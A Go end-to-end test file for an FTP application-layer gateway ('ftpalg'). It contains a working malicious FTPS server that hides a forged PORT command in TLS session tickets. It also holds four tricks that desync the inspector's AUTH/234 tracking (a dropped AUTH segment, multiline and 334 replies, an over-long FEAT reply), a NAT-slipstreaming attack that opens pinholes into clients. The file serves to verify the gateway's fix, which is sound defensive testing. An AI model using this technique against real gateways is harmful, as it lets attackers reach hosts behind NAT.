package e2e

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// Finding F1 (issue 9): a malicious FTPS server gets a pinhole into the
// client out of the client's own TLS handshake.
//
// ftpalg stops reading the control channel as FTP only when it pairs a
// 234 with the pending AUTH. The server breaks that pairing while the
// client still starts TLS, and hands the client a TLS 1.2 session ticket
// that contains "\r\nPORT <client>,<p1>,<p2>\r\n". On the next control
// connection the client resumes the session: its ClientHello carries the
// ticket in clear, and an inspector still reading FTP finds a PORT naming
// the client's own address and a port the server picked. A pinhole there
// lets the server (or anyone it tells) into the client: NAT slipstreaming
// behind masquerade.
//
// The server (evilFTPS) is Go's crypto/tls with WrapSession/UnwrapSession
// choosing the ticket bytes. The ticket travels in clear in the resuming
// ClientHello: in the session_ticket extension under TLS 1.2 (Python),
// as the pre_shared_key identity under TLS 1.3 (curl 7.88, which turns
// TLS 1.2 tickets off). The clients are real: curl
// --ssl-reqd (two URLs: it caches the session and resumes it on its second
// control connection) and Python's ftplib.FTP_TLS (the Debian
// /usr/bin/python3), which passes the first connection's session to the
// second's wrap_socket. Ways to break the pairing:
//
//   - f1Ack: the 234 is sent in a segment whose ACK does not cover the
//     AUTH line: the server's namespace drops the first AUTH segment (an
//     nft rule), so its kernel has not received it when the server sends
//     234 (a client accepts such a segment); the AUTH is retransmitted.
//   - f1Multi: "200-x\r\n234 Proceed\r\n". curl ends a reply at any line
//     "ddd ", so it starts TLS; an RFC 959 reader sees a 200 reply still
//     open.
//   - f1A334: AUTH is answered 334 (RFC 2228: accepted, security data
//     follows). curl starts TLS on 334 as on 234; an inspector waiting for
//     234 never sees TLS begin.
//   - f1Long: FEAT (which the client sends before AUTH, as lftp does) is
//     answered with one line over 1024 bytes; an inspector that discards
//     it pairs the 234 with FEAT.
//
// What must hold: no pinhole (no "pinhole open" for either session, the
// sets never hold one) and the server cannot connect to the planted port.
// Under tls: allow the second ClientHello must carry the planted line
// (ftpalg has to see TLS begin and stop reading). Under tls: block, the
// fixed ftpalg resets the connection as soon as TLS begins (the server's
// 234, or the client's first TLS record after a 334), so no TLS session
// and no ticket ever exist; that outcome is accepted there too.
// The client-side capture (an AF_PACKET socket on the client's interface)
// checks that the second ClientHello really carried the planted line.

const (
	f1Ack   = "ack"
	f1Multi = "multiline"
	f1Long  = "long-reply"
	f1A334  = "334"
)

// ftpsAttack is the F1 part of a hostileCase.
type ftpsAttack struct {
	variant string
	client  string // "curl" or "python"
	port    uint16 // the planted PORT's port on the client
}

// tlsVersion: TLS 1.2 for Python, whose ClientHello then carries the
// ticket in the session_ticket extension; TLS 1.3 for curl 7.88, which
// turns TLS 1.2 tickets off (SSL_OP_NO_TICKET) but resumes TLS 1.3
// sessions, whose ticket is the pre_shared_key identity, also in clear.
func (a *ftpsAttack) tlsVersion() uint16 {
	if a.client == "curl" {
		return tls.VersionTLS13
	}
	return tls.VersionTLS12
}

func (a *ftpsAttack) planted() string {
	return fmt.Sprintf("PORT 198,51,100,10,%d,%d", a.port>>8, a.port&0xff)
}

// f1Cases are the F1 rows; cat names the control port's TLS policy.
func f1Cases(policy string) []*hostileCase {
	var out []*hostileCase
	for _, a := range []struct {
		name string
		atk  ftpsAttack
	}{
		{"f1-234-ack-before-auth-curl", ftpsAttack{variant: f1Ack, client: "curl", port: 8080}},
		{"f1-234-ack-before-auth-python", ftpsAttack{variant: f1Ack, client: "python", port: 8080}},
		{"f1-234-after-200-dash-curl", ftpsAttack{variant: f1Multi, client: "curl", port: 8080}},
		{"f1-long-feat-reply-then-234-python", ftpsAttack{variant: f1Long, client: "python", port: 8080}},
		{"f1-334-to-auth-curl", ftpsAttack{variant: f1A334, client: "curl", port: 8080}},
	} {
		atk := a.atk
		name := a.name
		if policy != "block" {
			name += "-" + policy
		}
		out = append(out, &hostileCase{name: name, cat: "tls resumption, tls: " + policy, ftps: &atk,
			ftpalg: expect{probes: []bool{false}}})
	}
	return out
}

// evilFTPS is the malicious FTPS server of one case.
type evilFTPS struct {
	atk     *ftpsAttack
	ns      *Netns
	cfg     *tls.Config
	mu      sync.Mutex
	tickets map[string][]byte
	issued  int
	log     []string
	// afterHandshake runs after the TLS handshake of the second control
	// connection (the one whose ClientHello carried the ticket), before
	// the server reads anything more: the lab probes there.
	afterHandshake func()
	resumed        []bool
}

func newEvilFTPS(t *testing.T, ns *Netns, atk *ftpsAttack) *evilFTPS {
	testCert.Do(func() { testCert.cert, testCert.key, testCert.err = makeTestCert() })
	if testCert.err != nil {
		t.Fatal(testCert.err)
	}
	cert, err := tls.X509KeyPair(testCert.cert, testCert.key)
	if err != nil {
		t.Fatal(err)
	}
	e := &evilFTPS{atk: atk, ns: ns, tickets: map[string][]byte{}}
	e.cfg = &tls.Config{
		Certificates: []tls.Certificate{cert},
		MinVersion:   tls.VersionTLS12,
		MaxVersion:   atk.tlsVersion(),
		WrapSession:  e.wrap,
		UnwrapSession: func(id []byte, _ tls.ConnectionState) (*tls.SessionState, error) {
			e.mu.Lock()
			b, ok := e.tickets[string(id)]
			e.mu.Unlock()
			if !ok {
				return nil, nil // unknown ticket: full handshake
			}
			return tls.ParseSessionState(b)
		},
	}
	return e
}

// ticket is what the server hands out: the planted line between line ends.
func (e *evilFTPS) ticket(n int) string {
	return fmt.Sprintf("f1\r\n%s\r\nticket-%d", e.atk.planted(), n)
}

func (e *evilFTPS) wrap(_ tls.ConnectionState, ss *tls.SessionState) ([]byte, error) {
	b, err := ss.Bytes()
	if err != nil {
		return nil, err
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	e.issued++
	tk := e.ticket(e.issued)
	e.tickets[tk] = b
	return []byte(tk), nil
}

func (e *evilFTPS) logf(format string, args ...any) {
	e.mu.Lock()
	e.log = append(e.log, fmt.Sprintf(format, args...))
	e.mu.Unlock()
}

// bufConn reads through the bufio.Reader that read the clear-text lines.
type bufConn struct {
	net.Conn
	r *bufio.Reader
}

func (c *bufConn) Read(b []byte) (int, error) { return c.r.Read(b) }

const f1DropTable = "f1ack"

// dropAUTH installs (on) or removes the server namespace's rule that drops
// client segments starting with "AUTH" (dropped reads its counter).
func (e *evilFTPS) dropAUTH(on bool) {
	if on {
		e.ns.RunInput([]byte(`table inet `+f1DropTable+` {
	chain in {
		type filter hook input priority -500; policy accept;
		tcp dport 21 @ih,0,32 0x41555448 counter drop
	}
}
`), "nft", "-f", "-")
		return
	}
	e.ns.Run("nft", "delete", "table", "inet", f1DropTable)
}

var dropCount = regexp.MustCompile(`counter packets (\d+)`)

func (e *evilFTPS) dropped() int {
	out, _ := e.ns.Run("nft", "list", "table", "inet", f1DropTable)
	if m := dropCount.FindStringSubmatch(out); m != nil {
		n, _ := strconv.Atoi(m[1])
		return n
	}
	return 0
}

// serve plays one control connection (n counts from 1).
func (e *evilFTPS) serve(conn net.Conn, n int) {
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(15 * time.Second))
	br := bufio.NewReader(conn)
	write := func(s string) {
		e.logf("conn %d S: %q", n, s)
		conn.Write([]byte(s))
	}
	if e.atk.variant == f1Ack {
		e.dropAUTH(true)
		defer e.dropAUTH(false)
	}
	write("220 f1 FTPS ready\r\n")
	if e.atk.variant == f1Ack {
		// Wait until the first AUTH segment was dropped, then accept
		// it: the 234's ACK does not cover the AUTH.
		if !eventually(3*time.Second, func() bool { return e.dropped() > 0 }) {
			e.logf("conn %d: no AUTH segment was dropped", n)
		}
		write("234 Proceed with negotiation.\r\n")
		e.dropAUTH(false)
	}
	for {
		line, err := br.ReadString('\n')
		if err != nil {
			e.logf("conn %d: read: %v", n, err)
			return
		}
		e.logf("conn %d C: %q", n, line)
		verb, _, _ := strings.Cut(strings.TrimSpace(line), " ")
		switch strings.ToUpper(verb) {
		case "FEAT":
			if e.atk.variant == f1Long {
				write("211 " + strings.Repeat("x", 1100) + "\r\n")
			} else {
				write("211 no features\r\n")
			}
			continue
		case "AUTH":
			switch e.atk.variant {
			case f1Multi:
				write("200-x\r\n234 Proceed\r\n")
			case f1Long:
				write("234 Proceed with negotiation.\r\n")
			case f1A334:
				write("334 Proceed\r\n")
			}
		default:
			write("530 AUTH first\r\n")
			continue
		}
		break
	}
	tc := tls.Server(&bufConn{Conn: conn, r: br}, e.cfg)
	if err := tc.Handshake(); err != nil {
		e.logf("conn %d: TLS handshake: %v", n, err)
		return
	}
	st := tc.ConnectionState()
	e.logf("conn %d: TLS %s, resumed %v", n, tls.VersionName(st.Version), st.DidResume)
	e.mu.Lock()
	e.resumed = append(e.resumed, st.DidResume)
	e.mu.Unlock()
	if n == 2 && e.afterHandshake != nil {
		e.afterHandshake()
	}
	r := bufio.NewReader(tc)
	for {
		line, err := r.ReadString('\n')
		if err != nil {
			e.logf("conn %d: TLS read: %v", n, err)
			return
		}
		e.logf("conn %d C (TLS): %q", n, line)
		verb, _, _ := strings.Cut(strings.TrimSpace(line), " ")
		reply := "421 f1 server: enough\r\n"
		switch strings.ToUpper(verb) {
		case "USER":
			reply = "331 password please\r\n"
		case "PASS":
			reply = "230 logged in\r\n"
		case "PBSZ", "PROT", "TYPE":
			reply = "200 ok\r\n"
		case "PWD":
			reply = "257 \"/\"\r\n"
		case "QUIT":
			reply = "221 bye\r\n"
		}
		e.logf("conn %d S (TLS): %q", n, reply)
		tc.Write([]byte(reply))
		if reply[0] == '4' || reply[:3] == "221" {
			tc.Close()
			return
		}
	}
}

// f1Python: two control connections with ftplib.FTP_TLS; the second
// resumes the first's TLS session (wrap_socket(session=...)).
const f1Python = `
import ftplib, ssl, sys
host, feat = sys.argv[1], sys.argv[2] == "feat"
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
sess = None
for i in (1, 2):
    f = ftplib.FTP_TLS(context=ctx, timeout=8)
    print("connect", i, f.connect(host, 21, source_address=("198.51.100.10", 0)), flush=True)
    if feat:
        print("FEAT", f.sendcmd("FEAT")[:40], flush=True)
    print("AUTH", f.voidcmd("AUTH TLS"), flush=True)
    f.sock = ctx.wrap_socket(f.sock, server_hostname=host, session=sess)
    f.file = f.sock.makefile("r", encoding=f.encoding)
    print("tls", f.sock.version(), "resumed", f.sock.session_reused, flush=True)
    print("login", f.login("anonymous", "e2e@example.com"), flush=True)
    sess = f.sock.session
    print("quit", f.quit(), flush=True)
`

// startF1Client runs the case's TLS client in the client namespace.
func (h *hostileLab) startF1Client(atk *ftpsAttack) (done chan struct{}, out *string) {
	var args []string
	host := serverPubIP.String()
	switch atk.client {
	case "curl":
		// Two URLs: curl caches the TLS session of the first control
		// connection and resumes it on the second (the server ends the
		// first with a 421).
		args = []string{"curl", "-v", "-sS", "--ssl-reqd", "-k", "--interface", clientPub.String(),
			"--connect-timeout", "5", "--max-time", "15",
			"ftp://" + host + "/f1-first", "-o", "/dev/null", "ftp://" + host + "/f1-second", "-o", "/dev/null"}
	default:
		feat := "no-feat"
		if atk.variant == f1Long {
			feat = "feat"
		}
		args = []string{"/usr/bin/python3", "-c", f1Python, host, feat}
	}
	done = make(chan struct{})
	out = new(string)
	go func() {
		defer close(done)
		ctx, cancel := context.WithTimeout(context.Background(), 25*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, "ip", append([]string{"netns", "exec", h.Client.Name}, args...)...)
		cmd.WaitDelay = time.Second
		b, err := cmd.CombinedOutput()
		*out = fmt.Sprintf("$ %s ...\n%s(exit: %v)", strings.Join(args[:3], " "), b, err)
	}()
	return done, out
}

// tap captures what the client namespace sends on one interface.
type tap struct {
	fd      int
	mu      sync.Mutex
	pkts    [][]byte
	stopped bool
	done    chan struct{}
}

func startTap(ns *Netns, ifname string) (*tap, error) {
	tp := &tap{fd: -1, done: make(chan struct{})}
	err := ns.Do(func() error {
		ifi, err := net.InterfaceByName(ifname)
		if err != nil {
			return err
		}
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, int(htons(unix.ETH_P_ALL)))
		if err != nil {
			return fmt.Errorf("AF_PACKET socket: %w", err)
		}
		if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_ALL), Ifindex: ifi.Index}); err != nil {
			unix.Close(fd)
			return err
		}
		tv := unix.Timeval{Usec: 100000}
		unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
		tp.fd = fd
		return nil
	})
	if err != nil {
		return nil, err
	}
	go func() {
		defer close(tp.done)
		buf := make([]byte, 1<<16)
		for {
			tp.mu.Lock()
			stop := tp.stopped
			tp.mu.Unlock()
			if stop {
				return
			}
			n, from, err := unix.Recvfrom(tp.fd, buf, 0)
			if err != nil {
				continue
			}
			if ll, ok := from.(*unix.SockaddrLinklayer); !ok || ll.Pkttype != unix.PACKET_OUTGOING {
				continue
			}
			tp.mu.Lock()
			tp.pkts = append(tp.pkts, append([]byte(nil), buf[:n]...))
			tp.mu.Unlock()
		}
	}()
	return tp, nil
}

// stop ends the capture and returns the TCP payloads sent to port 21.
func (tp *tap) stop() [][]byte {
	tp.mu.Lock()
	tp.stopped = true
	tp.mu.Unlock()
	<-tp.done
	unix.Close(tp.fd)
	return tp.payloads()
}

// writePcap writes the captured packets (IPv4, no link header) as a
// pcap file (LINKTYPE_RAW), for tshark.
func (tp *tap) writePcap(path string) error {
	var b bytes.Buffer
	hdr := make([]byte, 24)
	binary.LittleEndian.PutUint32(hdr[0:], 0xa1b2c3d4)
	binary.LittleEndian.PutUint16(hdr[4:], 2)
	binary.LittleEndian.PutUint16(hdr[6:], 4)
	binary.LittleEndian.PutUint32(hdr[16:], 65535)
	binary.LittleEndian.PutUint32(hdr[20:], 101)
	b.Write(hdr)
	now := time.Now()
	for i, p := range tp.pkts {
		rec := make([]byte, 16)
		binary.LittleEndian.PutUint32(rec[0:], uint32(now.Unix()))
		binary.LittleEndian.PutUint32(rec[4:], uint32(i))
		binary.LittleEndian.PutUint32(rec[8:], uint32(len(p)))
		binary.LittleEndian.PutUint32(rec[12:], uint32(len(p)))
		b.Write(rec)
		b.Write(p)
	}
	return os.WriteFile(path, b.Bytes(), 0o644)
}

func (tp *tap) payloads() [][]byte {
	var out [][]byte
	for _, p := range tp.pkts {
		if len(p) < 40 || p[0]>>4 != 4 || p[9] != unix.IPPROTO_TCP {
			continue
		}
		ihl := int(p[0]&0x0f) * 4
		if total := int(binary.BigEndian.Uint16(p[2:4])); total < len(p) {
			p = p[:total]
		}
		tcp := p[ihl:]
		if len(tcp) < 20 || binary.BigEndian.Uint16(tcp[2:4]) != 21 {
			continue
		}
		if pl := tcp[int(tcp[12]>>4)*4:]; len(pl) > 0 {
			out = append(out, pl)
		}
	}
	return out
}

// clientHelloTicket parses a TLS record holding a ClientHello and returns
// its session_ticket extension (TLS 1.2) or its first pre_shared_key
// identity (TLS 1.3): the ticket it presents (nil if none).
func clientHelloTicket(b []byte) ([]byte, bool) {
	if len(b) < 9 || b[0] != 0x16 || b[1] != 3 || b[5] != 1 {
		return nil, false
	}
	p := b[9:] // after the record header (5) and handshake header (4)
	take := func(n int) ([]byte, bool) {
		if len(p) < n {
			return nil, false
		}
		v := p[:n]
		p = p[n:]
		return v, true
	}
	u8 := func() (int, bool) {
		v, ok := take(1)
		if !ok {
			return 0, false
		}
		return int(v[0]), true
	}
	u16 := func() (int, bool) {
		v, ok := take(2)
		if !ok {
			return 0, false
		}
		return int(binary.BigEndian.Uint16(v)), true
	}
	if _, ok := take(2 + 32); !ok { // version, random
		return nil, false
	}
	for _, w := range []int{1, 2, 1} { // session id, cipher suites, compression
		var n int
		var ok bool
		if w == 1 {
			n, ok = u8()
		} else {
			n, ok = u16()
		}
		if !ok {
			return nil, false
		}
		if _, ok := take(n); !ok {
			return nil, false
		}
	}
	n, ok := u16()
	if !ok || len(p) < n {
		return nil, false
	}
	p = p[:n]
	for len(p) >= 4 {
		typ, _ := u16()
		l, _ := u16()
		v, ok := take(l)
		if !ok {
			return nil, false
		}
		switch typ {
		case 35: // session_ticket
			if len(v) > 0 {
				return v, true
			}
		case 41: // pre_shared_key: identities<7..2^16-1>, each identity<1..2^16-1> + age
			if len(v) >= 4 {
				if l := int(binary.BigEndian.Uint16(v[2:4])); 4+l <= len(v) {
					return v[4 : 4+l], true
				}
			}
		}
	}
	return nil, true
}

// runFTPS plays an F1 case: the malicious server, a real TLS client
// connecting twice, the probe to the planted port after the second
// handshake.
func (h *hostileLab) runFTPS(t *testing.T, c *hostileCase) outcome {
	t.Helper()
	atk := c.ftps
	kernel, mark, before := h.caseStart()
	poll := pollSets(h)
	tp, err := startTap(h.Client, "eth0")
	if err != nil {
		poll.finish()
		t.Fatalf("capture on the client: %v", err)
	}
	srv := newEvilFTPS(t, h.Server, atk)
	env := &peerEnv{client: h.Client, server: h.Server}
	var probes []probeResult
	srv.afterHandshake = func() {
		poll.sample(h)
		probes = append(probes, env.dial(probeClient(atk.port)))
		poll.sample(h)
	}
	done, cliOut := h.startF1Client(atk)
	var remotes []string
	for n := 1; n <= 2; n++ {
		var conn net.Conn
		for conn == nil {
			sc, err := h.script.accept(500 * time.Millisecond)
			if err == nil {
				conn = sc
				break
			}
			select {
			case <-done:
			default:
				continue
			}
			break
		}
		if conn == nil {
			srv.logf("the client made no control connection #%d", n)
			break
		}
		remotes = append(remotes, conn.RemoteAddr().String())
		srv.serve(conn, n)
	}
	select {
	case <-done:
	case <-time.After(20 * time.Second):
	}
	probedInSession := len(probes) > 0
	if !probedInSession {
		// No TLS session came up on the second connection (ftpalg reset
		// it): probe anyway.
		probes = append(probes, env.dial(probeClient(atk.port)))
	}
	pls := tp.stop()
	if dir := os.Getenv("FTPALG_E2E_F1_PCAP"); dir != "" {
		// What the client sent, for tshark (not part of the checks).
		if err := tp.writePcap(filepath.Join(dir, c.name+"-"+map[bool]string{true: "kernel", false: "ftpalg"}[kernel]+".pcap")); err != nil {
			t.Logf("pcap: %v", err)
		}
	}
	// Wait for ftpalg to end the sessions.
	sessions, ended, seen, entries := h.collect(mark, poll, before, remotes...)
	// The ClientHellos the client sent, and the tickets they carried.
	var hellos []string
	planted := false
	for _, pl := range pls {
		tk, ok := clientHelloTicket(pl)
		if !ok {
			continue
		}
		hellos = append(hellos, fmt.Sprintf("%q", tk))
		if bytes.Contains(tk, []byte("\r\n"+atk.planted()+"\r\n")) && bytes.Contains(pl, []byte("\r\n"+atk.planted()+"\r\n")) {
			planted = true
		}
	}
	srv.mu.Lock()
	t.Logf("server:\n  %s", strings.Join(srv.log, "\n  "))
	resumed := append([]bool(nil), srv.resumed...)
	srv.mu.Unlock()
	t.Logf("client:\n%s", *cliOut)
	t.Logf("ClientHellos seen on the client's interface, the ticket each presented (session_ticket or pre_shared_key identity): %v", hellos)
	t.Logf("control connections %v, ftpalg sessions %v", remotes, sessions)
	if h.d != nil {
		var raws []string
		for _, e := range entries {
			raws = append(raws, e.Raw)
		}
		t.Logf("ftpalg log of the sessions:\n%s", strings.Join(raws, "\n"))
	}
	t.Logf("seen in the kernel: %v", seen)

	tee := &teeReporter{t: t}
	want := c.ftpalg
	if kernel {
		want = c.kernel
	}
	var said []string
	// Outcome B (tls: block only): ftpalg reset every control connection
	// (tls-blocked) when TLS began (the server's 234, or the client's
	// first TLS record), before a ClientHello could carry a ticket.
	resetAt234 := !kernel && strings.Contains(c.cat, "tls: block") && !planted && len(sessions) > 0
	var resetWhy []string
	for _, s := range sessions {
		hit := false
		for _, e := range entries {
			if e.Field("session") == s && e.Msg == "reset" && e.Field("reason") == "tls-blocked" {
				hit = true
				if d, _, _ := strings.Cut(e.Field("detail"), ":"); !slices.Contains(resetWhy, d) {
					resetWhy = append(resetWhy, d)
				}
			}
		}
		resetAt234 = resetAt234 && hit
	}
	switch {
	case planted:
		ext := "session_ticket"
		if atk.tlsVersion() == tls.VersionTLS13 {
			ext = "pre_shared_key identity"
		}
		said = append(said, fmt.Sprintf("client's 2nd ClientHello (%s) carried the ticket with `%s` (%s)", tls.VersionName(atk.tlsVersion()), atk.planted(), ext))
		if len(resumed) == 2 && resumed[1] {
			said = append(said, "TLS session resumed")
		} else {
			said = append(said, fmt.Sprintf("TLS handshakes (resumed?): %v", resumed))
		}
		if !probedInSession {
			tee.Errorf("the second control connection never completed its TLS handshake, so the probe ran only after the session")
		}
	case resetAt234:
		said = append(said, fmt.Sprintf("ftpalg reset each of the %d control connections (tls: block; %s), so no TLS session came up: no ticket was handed out or presented", len(sessions), strings.Join(resetWhy, ", ")))
	default:
		tee.Errorf("no ClientHello from the client carried the planted line %q in its ticket (tickets presented: %v), and ftpalg did not reset the sessions when TLS began: the case proves nothing", atk.planted(), hellos)
	}
	res := &convResult{probes: probes}
	if s := checkSession(tee, res, want); s != "" {
		said = append(said, s)
	}
	out := outcome{session: strings.Join(said, "; ")}
	if kernel {
		out.pinholes = checkKernelExpectations(tee, seen, want.pins)
	} else {
		out.pinholes = checkPinholes(tee, entries, seen, want.pins)
		out.log = renderLog(entries)
		if !ended {
			tee.Errorf("ftpalg did not log the end of sessions %v within 4s: it lost track of them", sessions)
		}
		if left := h.leftOver(before, 3*time.Second); len(left) > 0 {
			tee.Errorf("after the sessions ended, still in ftpalg's sets after 3s: %v", left)
		}
	}
	out.errs = tee.errs
	return out
}

// renderLog lists the refusals, resets and TLS decisions of the entries
// without judging them.
func renderLog(entries []LogEntry) string {
	var got []string
	seen := map[string]bool{}
	for _, e := range entries {
		var k string
		switch {
		case e.Msg == "refuse" || e.Msg == "reset":
			k = "msg=" + e.Msg + " reason=" + e.Field("reason")
		case strings.Contains(e.Msg, "opaque"):
			k = "msg=" + e.Msg
		default:
			continue
		}
		if !seen[k] {
			seen[k] = true
			got = append(got, k)
		}
	}
	if len(got) == 0 {
		return "—"
	}
	return strings.Join(got, "; ")
}
